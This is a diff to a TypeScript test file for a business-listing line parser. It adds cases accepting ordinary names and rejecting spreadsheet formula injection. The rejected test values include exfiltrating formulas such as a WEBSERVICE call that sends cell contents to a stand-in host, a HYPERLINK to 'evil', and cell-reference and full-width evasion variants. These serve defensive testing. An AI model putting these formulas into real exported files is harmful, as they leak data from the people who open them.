@@ -55,6 +55,13 @@ describe('parseLine', () => {
     });
   });
 
+  it.each(['-Alpha Law', '- Alpha, Boston', '@Law', '-Yes! Law', '-1st Law', '- 24/7 Law', '-Núñez O’Neil'])(
+    '%j is a name',
+    (name) => {
+      expect(parseLine({ ...good, name })).toMatchObject({ problems: [], business: { name } });
+    },
+  );
+
   it('tells all problems of a line at once', () => {
     expect(problems({ name: null, zipCode: '1', latitude: '91', longitude: null })).toBe(
       'name is missing; zipCode "1" is not a ZIP code of five digits; latitude "91" is not a number of degrees between -90 and 90, such as 42.36 or -71.06; longitude is missing beside the other',
@@ -63,6 +70,29 @@ describe('parseLine', () => {
 
   it.each<[string, RawLine, RegExp]>([
     ['a formula', { name: '=HYPERLINK("http://evil")' }, /name .* formula/],
+    ...[
+      '-2+3 Law',
+      '-2/3',
+      '--2',
+      '-(1+1)',
+      '@SUM(A1) Law',
+      '@SUM (A1)',
+      '＠SUM（A1）',
+      '-WEBSERVICE ("http://e/"&A1)',
+      '-A1',
+      '-A$1',
+      '@A1',
+      '-Alpha-A1',
+      '-A1&B1',
+      '-Sheet!Law',
+      '-Law|x',
+      '-Law:Law',
+      '+Law',
+    ].map((name): [string, RawLine, RegExp] => [
+      `a formula in the name ${name}`,
+      { name },
+      /name .* (?:formula|is no name)/,
+    ]),
     ['a formula with +', { city: '+1+1' }, /city .* formula/],
     ['a formula with -', { address: '-2+3' }, /address .* formula/],
     ['a formula in the telephone number', { phone: '=1+1' }, /phone/],
